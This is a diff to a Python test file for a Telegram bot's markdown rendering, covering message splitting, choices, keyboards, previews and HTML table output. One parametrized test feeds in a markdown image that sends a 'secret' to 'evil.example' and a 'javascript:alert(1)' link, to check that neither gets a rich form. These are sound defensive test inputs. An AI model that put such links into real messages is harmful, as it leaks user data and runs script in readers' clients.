@@ -11,10 +11,11 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from bot.adapters.telegram import markdown
-from bot.adapters.telegram.rendering import MARKDOWN, MOST_UNITS, render
+from bot.adapters.telegram.attempts import attempt
+from bot.adapters.telegram.rendering import MARKDOWN, MOST_UNITS, preview, render
 from bot.adapters.telegram.splitting import split
 from bot.adapters.telegram.units import cut, units
-from core.types import Part
+from core.types import Button, Destination, Keyboard, Part
 from tests.emulators.telegram_text import checked_text
 
 MARKS = st.sampled_from([
@@ -40,8 +41,9 @@ WORDS = st.text(CHARACTERS, max_size=12) | st.sampled_from(["重要：", "👨�
 TEXTS = st.lists(MARKS | WORDS, max_size=60).map("".join)
 
 
-def shown(text: str, *choices: str) -> list[str]:
-    return [part.payload["text"] for part in render(text, choices)]
+def shown(text: str, *choices: str, chat: str = "-1") -> list[str]:
+    to = Destination(tenant="1000", chat=chat)
+    return [attempt(to, part, "").text for part in render(text, choices)]
 
 
 def one(text: str) -> tuple[str, list[dict[str, Any]]]:
@@ -63,7 +65,8 @@ def entities_of(text: str) -> list[tuple[str, str]]:
 
 def check(parts: list[Part]) -> None:
     for part in parts:
-        text, entities = part.payload["text"], part.payload["entities"]
+        tried = attempt(Destination(tenant="1000", chat="-1"), part, "")
+        text, entities = tried.text, tried.entities
         assert 0 < units(text) <= MOST_UNITS
         assert len(entities) <= 100
         checked_text({"text": text, "entities": entities})
@@ -102,12 +105,84 @@ def test_empty_text_has_no_parts(text: str) -> None:
     assert render(text) == []
 
 
-def test_choices_follow_as_a_list() -> None:
+def test_choices_follow_as_a_list_in_a_group() -> None:
     assert shown("**Tea?**", "yes", "no,\nthanks") == ["Tea?\n\n• yes\n• no, thanks"]
 
 
-def test_choices_alone_are_shown() -> None:
-    assert shown("", "*a*") == ["• *a*"]
+def test_choices_are_no_text_in_a_private_chat() -> None:
+    assert shown("**Tea?**", "yes", "no", chat="1") == ["Tea?"]
+
+
+@pytest.mark.parametrize("chat", ["1", "-1"])
+def test_choices_alone_are_shown(chat: str) -> None:
+    assert shown("", "*a*", chat=chat) == ["• *a*"]
+
+
+def test_the_last_message_has_room_for_its_choices() -> None:
+    for choices in (["yes", "no"], ["😀" * 200] * 40):
+        parts = render("word " * 1600, choices)
+        assert [sorted(part.payload) for part in parts[:-1]] == [["entities", "text"]] * (len(parts) - 1)
+        assert shown("word " * 1600, *choices)[-1].endswith(f"\n• {parts[-1].payload['choices'][-1]}")
+        check(parts)
+
+
+def test_a_keyboard_is_below_the_last_message() -> None:
+    keyboard = Keyboard(buttons=(Button(label="Tea", data="a"), Button(label="*Coffee*\nwith milk", data="b")))
+    *others, last = render("word " * 1000, keyboard=keyboard)
+    assert [sorted(part.payload) for part in others] == [["entities", "text"]]
+    rows = [[{"text": "Tea", "data": "a"}], [{"text": "*Coffee* with milk", "data": "b"}]]
+    assert last.payload["keyboard"] == {"rows": rows}
+    [part] = render("Why?", keyboard=Keyboard(reply=True))
+    assert part.payload["keyboard"] == {"reply": True}
+    [part] = render(" ", keyboard=keyboard)
+    assert part.payload["text"] == "…"
+
+
+def test_a_keyboard_moves_no_cut() -> None:
+    # An edit that takes it away shows the last of the same pieces.
+    text = "word " * 1000
+    many = Keyboard(buttons=tuple(Button(label="x" * 60, data=str(n)) for n in range(50)))
+    assert [p.payload["text"] for p in render(text, keyboard=many)] == [p.payload["text"] for p in render(text)]
+
+
+def test_a_preview_is_one_message_and_long_text_costs_no_conversion() -> None:
+    assert preview("**Tea** and **cof", 4096) == ("Tea and **cof", [{"type": "bold", "offset": 0, "length": 3}])
+    assert preview("", 4096) == ("", [])
+    text, entities = preview("**Tea** " + "😀" * 5000, 4096)
+    assert (units(text), entities, text[:8]) == (4096, [], "**Tea** ")
+
+
+@given(TEXTS)
+@settings(max_examples=50, deadline=None)
+def test_any_beginning_of_a_text_can_be_previewed(text: str) -> None:
+    shown_text, entities = preview(text, 100)
+    assert units(shown_text) <= 100
+    if shown_text:
+        checked_text({"text": shown_text, "entities": entities})
+
+
+TABLE = "Look: [a](https://b.cd)\n\n| a | b |\n|---|---|\n| <x> | 1 |"
+
+
+def test_a_table_has_a_rich_form_only_when_that_is_wanted() -> None:
+    [plain], [rich] = render(TABLE), render(TABLE, rich=True)
+    assert "rich" not in plain.payload
+    assert "<table><tr><th>a</th><th>b</th></tr><tr><td>&lt;x&gt;</td><td>1</td></tr></table>" in rich.payload["rich"]
+    assert {**rich.payload, "rich": None} == {**plain.payload, "rich": None}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "no | table",
+        f"![](https://evil.example/?secret)\n\n{TABLE}",
+        f"[x](javascript:alert(1))\n\n{TABLE}",
+        f"![👍](tg://emoji?id=5368324170671202286)\n\n{TABLE}",
+        "word " * 1000 + f"\n\n{TABLE}",
+    ],
+)
+def test_what_is_better_plain_has_no_rich_form(text: str) -> None:
+    assert all("rich" not in part.payload for part in render(text, rich=True))
 
 
 def test_entities_are_counted_in_utf16_units() -> None:
